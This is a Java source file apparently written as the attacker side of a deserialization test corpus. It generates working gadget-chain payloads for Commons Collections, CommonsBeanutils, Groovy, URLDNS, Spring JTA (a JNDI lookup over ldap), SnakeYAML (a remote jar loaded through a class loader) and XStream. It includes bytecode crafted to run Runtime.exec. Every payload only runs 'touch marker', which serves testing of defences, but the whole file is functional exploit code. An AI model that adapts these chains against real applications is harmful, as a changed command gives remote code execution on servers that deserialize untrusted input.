import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.lang.reflect.Constructor;
import java.lang.reflect.Field;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Proxy;
import java.math.BigInteger;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import java.util.PriorityQueue;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import org.objectweb.asm.ClassWriter;
import org.objectweb.asm.MethodVisitor;
import org.objectweb.asm.Opcodes;

/**
 * The attacker's side of the gadget corpus, run on the stock JVM: builds each chain's payload and writes
 * it to the directory given ({@code <chain>.ser}, {@code .yaml}, {@code .xml}; a jar the YAML payload
 * loads). Every command is {@code touch <chain>.marker}, relative to the victim's working directory, so
 * the victim's test sees which chain reached its sink. The chains are the published ones (ysoserial's
 * CommonsCollections2-6, CommonsBeanutils1, Groovy1, URLDNS; Spring's JtaTransactionManager; the SnakeYAML and XStream
 * advisories),
 * rebuilt here from the vulnerable libraries themselves. Needs, to set the JDK classes' private fields:
 * {@code --add-opens} for java.xml's trax package, java.base's sun.reflect.annotation, java.util, java.net,
 * and java.lang (for Groovy 2.4, which makes JDK members accessible when a closure is made).
 */
public final class Attacker {
    private static final String TRAX = "com.sun.org.apache.xalan.internal.xsltc.trax.";
    /** In a payload, the port of a listener of the victim's, which only the victim knows (zero-padded, as a URL may have it). */
    static final String PORT = "00000";

    public static void main(String[] args) throws Exception {
        Path out = Path.of(args[0]);
        Files.createDirectories(out);
        Files.write(out.resolve("cc31-exec.ser"), save(cc31LazyMap(cc31Exec("touch cc31-exec.marker"))));
        Files.write(out.resolve("cc31-templates.ser"), save(cc31LazyMap(new org.apache.commons.collections.Transformer[] {
            new org.apache.commons.collections.functors.ConstantTransformer(Class.forName(TRAX + "TrAXFilter")),
            new org.apache.commons.collections.functors.InstantiateTransformer(
                new Class<?>[] {javax.xml.transform.Templates.class}, new Object[] {templates("cc31-templates.marker")})})));
        Files.write(out.resolve("cc40-exec.ser"), save(cc40Queue(new org.apache.commons.collections4.Transformer[] {
            new org.apache.commons.collections4.functors.ConstantTransformer<Object, Object>(Runtime.class),
            new org.apache.commons.collections4.functors.InvokerTransformer<Object, Object>("getMethod",
                new Class<?>[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class<?>[0]}),
            new org.apache.commons.collections4.functors.InvokerTransformer<Object, Object>("invoke",
                new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
            new org.apache.commons.collections4.functors.InvokerTransformer<Object, Object>("exec",
                new Class<?>[] {String.class}, new Object[] {"touch cc40-exec.marker"})})));
        Files.write(out.resolve("cc40-templates.ser"), save(cc40Queue(new org.apache.commons.collections4.Transformer[] {
            new org.apache.commons.collections4.functors.ConstantTransformer<Object, Object>(Class.forName(TRAX + "TrAXFilter")),
            new org.apache.commons.collections4.functors.InstantiateTransformer<Object>(
                new Class<?>[] {javax.xml.transform.Templates.class}, new Object[] {templates("cc40-templates.marker")})})));
        Files.write(out.resolve("beanutils.ser"), save(beanutils(templates("beanutils.marker"))));
        Files.write(out.resolve("groovy.ser"), save(groovy("touch groovy.marker")));
        Files.write(out.resolve("urldns-sessions.ser"), save(urldns("http://urldns-sessions.invalid/")));
        Files.write(out.resolve("urldns-bookmarks.ser"), save(urldns("http://urldns-bookmarks.invalid/")));
        Files.write(out.resolve("spring-jta.ser"), save(springJta("ldap://127.0.0.1:" + PORT + "/spring")));
        Path jar = out.resolve("engine.jar").toAbsolutePath();
        engineJar(jar, "snakeyaml.marker");
        Files.writeString(out.resolve("snakeyaml.yaml"),
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + jar.toUri() + "\"]]]]\n");
        Files.writeString(out.resolve("xstream.xml"), """
                <list>
                  <string>beta</string>
                  <dynamic-proxy>
                    <interface>java.lang.Comparable</interface>
                    <handler class="java.beans.EventHandler">
                      <target class="java.lang.ProcessBuilder">
                        <command><string>touch</string><string>xstream.marker</string></command>
                      </target>
                      <action>start</action>
                    </handler>
                  </dynamic-proxy>
                </list>
                """);
        System.out.println("payloads=" + out);
    }

    /** CommonsCollections1's transformers: Runtime.getRuntime().exec(command), by reflection only. */
    static org.apache.commons.collections.Transformer[] cc31Exec(String command) {
        return new org.apache.commons.collections.Transformer[] {
            new org.apache.commons.collections.functors.ConstantTransformer(Runtime.class),
            new org.apache.commons.collections.functors.InvokerTransformer("getMethod",
                new Class<?>[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class<?>[0]}),
            new org.apache.commons.collections.functors.InvokerTransformer("invoke",
                new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
            new org.apache.commons.collections.functors.InvokerTransformer("exec", new Class<?>[] {String.class}, new Object[] {command}),
        };
    }

    /** CommonsCollections6's trigger: a HashMap whose key's hashCode (TiedMapEntry) asks a LazyMap, which runs the chain. */
    @SuppressWarnings({"unchecked", "rawtypes"})
    static Object cc31LazyMap(org.apache.commons.collections.Transformer[] chain) throws Exception {
        org.apache.commons.collections.functors.ChainedTransformer chained = new org.apache.commons.collections.functors.ChainedTransformer(
            new org.apache.commons.collections.Transformer[] {new org.apache.commons.collections.functors.ConstantTransformer("harmless")});
        Map lazy = org.apache.commons.collections.map.LazyMap.decorate(new HashMap(), chained);
        Map<Object, Object> outer = new HashMap<>();
        outer.put(new org.apache.commons.collections.keyvalue.TiedMapEntry(lazy, "k"), "v");
        lazy.clear();
        set(chained, "iTransformers", chain);
        return outer;
    }

    /** CommonsCollections2/4's trigger: a PriorityQueue that compares its elements through a TransformingComparator on readObject. */
    @SuppressWarnings({"unchecked", "rawtypes"})
    static Object cc40Queue(org.apache.commons.collections4.Transformer[] chain) throws Exception {
        org.apache.commons.collections4.functors.ChainedTransformer chained = new org.apache.commons.collections4.functors.ChainedTransformer(
            new org.apache.commons.collections4.functors.ConstantTransformer(1));
        PriorityQueue<Object> queue = new PriorityQueue<>(2, new org.apache.commons.collections4.comparators.TransformingComparator(chained));
        queue.add(1);
        queue.add(2);
        set(chained, "iTransformers", chain);
        return queue;
    }

    /** CommonsBeanutils1: a BeanComparator on "outputProperties" makes PropertyUtils call TemplatesImpl.getOutputProperties. */
    @SuppressWarnings({"unchecked", "rawtypes"})
    static Object beanutils(Object templates) throws Exception {
        org.apache.commons.beanutils.BeanComparator comparator = new org.apache.commons.beanutils.BeanComparator("lowestSetBit");
        PriorityQueue<Object> queue = new PriorityQueue<>(2, comparator);
        queue.add(new BigInteger("1"));
        queue.add(new BigInteger("1"));
        set(comparator, "property", "outputProperties");
        Object[] elements = (Object[]) get(queue, "queue");
        elements[0] = templates;
        elements[1] = templates;
        return queue;
    }

    /** Groovy1: AnnotationInvocationHandler.readObject iterates a Map proxy whose ConvertedClosure runs "command".execute(). */
    static Object groovy(String command) throws Exception {
        org.codehaus.groovy.runtime.MethodClosure closure = new org.codehaus.groovy.runtime.MethodClosure(command, "execute");
        InvocationHandler converted = new org.codehaus.groovy.runtime.ConvertedClosure(closure, "entrySet");
        Map<?, ?> map = (Map<?, ?>) Proxy.newProxyInstance(Attacker.class.getClassLoader(), new Class<?>[] {Map.class}, converted);
        Constructor<?> c = Class.forName("sun.reflect.annotation.AnnotationInvocationHandler").getDeclaredConstructors()[0];
        c.setAccessible(true);
        return c.newInstance(Override.class, map);
    }

    /**
     * Spring's JtaTransactionManager: its readObject looks its user transaction up by JNDI name. The port of
     * the victim's listener is not known yet: {@link #PORT} stands for it, five digits the victim replaces.
     */
    static Object springJta(String name) {
        org.springframework.transaction.jta.JtaTransactionManager m = new org.springframework.transaction.jta.JtaTransactionManager();
        m.setUserTransactionName(name);
        return m;
    }

    /** URLDNS: a HashMap keyed by a URL whose cached hash is -1, so that rebuilding the map resolves the URL's host. JDK classes only. */
    static Object urldns(String url) throws Exception {
        URL u = new URL(null, url, new java.net.URLStreamHandler() { // a handler that resolves nothing while the payload is built
            @Override protected java.net.URLConnection openConnection(URL x) { return null; }
            @Override protected synchronized java.net.InetAddress getHostAddress(URL x) { return null; }
        });
        HashMap<URL, String> map = new HashMap<>();
        map.put(u, url);
        set(u, "hashCode", -1);
        return map;
    }

    /** A TemplatesImpl whose bytecode is a translet that runs "touch marker" when TemplatesImpl instantiates it. */
    static Object templates(String marker) throws Exception {
        Object t = Class.forName(TRAX + "TemplatesImpl").getConstructor().newInstance();
        set(t, "_bytecodes", new byte[][] {execClass("gadget/Translet", "com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet", null, marker)});
        set(t, "_name", "Translet");
        set(t, "_tfactory", Class.forName(TRAX + "TransformerFactoryImpl").getConstructor().newInstance());
        return t;
    }

    /** A jar whose ScriptEngineFactory service runs "touch marker" when ScriptEngineManager instantiates it. */
    static void engineJar(Path jar, String marker) throws Exception {
        try (JarOutputStream out = new JarOutputStream(Files.newOutputStream(jar))) {
            out.putNextEntry(new JarEntry("META-INF/services/javax.script.ScriptEngineFactory"));
            out.write("gadget.Engine\n".getBytes("UTF-8"));
            out.putNextEntry(new JarEntry("gadget/Engine.class"));
            out.write(execClass("gadget/Engine", "java/lang/Object", new String[] {"javax/script/ScriptEngineFactory"}, marker));
        }
    }

    /** A class whose constructor runs Runtime.getRuntime().exec(new String[] {"touch", marker}). */
    static byte[] execClass(String name, String superName, String[] interfaces, String marker) {
        ClassWriter cw = new ClassWriter(ClassWriter.COMPUTE_MAXS);
        cw.visit(Opcodes.V1_6, Opcodes.ACC_PUBLIC | Opcodes.ACC_SUPER, name, null, superName, interfaces);
        MethodVisitor mv = cw.visitMethod(Opcodes.ACC_PUBLIC, "<init>", "()V", null, null);
        mv.visitCode();
        mv.visitVarInsn(Opcodes.ALOAD, 0);
        mv.visitMethodInsn(Opcodes.INVOKESPECIAL, superName, "<init>", "()V", false);
        mv.visitMethodInsn(Opcodes.INVOKESTATIC, "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;", false);
        mv.visitInsn(Opcodes.ICONST_2);
        mv.visitTypeInsn(Opcodes.ANEWARRAY, "java/lang/String");
        mv.visitInsn(Opcodes.DUP);
        mv.visitInsn(Opcodes.ICONST_0);
        mv.visitLdcInsn("touch");
        mv.visitInsn(Opcodes.AASTORE);
        mv.visitInsn(Opcodes.DUP);
        mv.visitInsn(Opcodes.ICONST_1);
        mv.visitLdcInsn(marker);
        mv.visitInsn(Opcodes.AASTORE);
        mv.visitMethodInsn(Opcodes.INVOKEVIRTUAL, "java/lang/Runtime", "exec", "([Ljava/lang/String;)Ljava/lang/Process;", false);
        mv.visitInsn(Opcodes.POP);
        mv.visitInsn(Opcodes.RETURN);
        mv.visitMaxs(0, 0);
        mv.visitEnd();
        cw.visitEnd();
        return cw.toByteArray();
    }

    static byte[] save(Object o) throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(o);
        }
        return bytes.toByteArray();
    }

    static Field field(Class<?> c, String name) throws NoSuchFieldException {
        for (Class<?> k = c; k != null; k = k.getSuperclass()) {
            try {
                Field f = k.getDeclaredField(name);
                f.setAccessible(true);
                return f;
            } catch (NoSuchFieldException e) {
                // in a superclass
            }
        }
        throw new NoSuchFieldException(c.getName() + "." + name);
    }

    static void set(Object o, String name, Object value) throws Exception {
        field(o.getClass(), name).set(o, value);
    }

    static Object get(Object o, String name) throws Exception {
        return field(o.getClass(), name).get(o);
    }
}
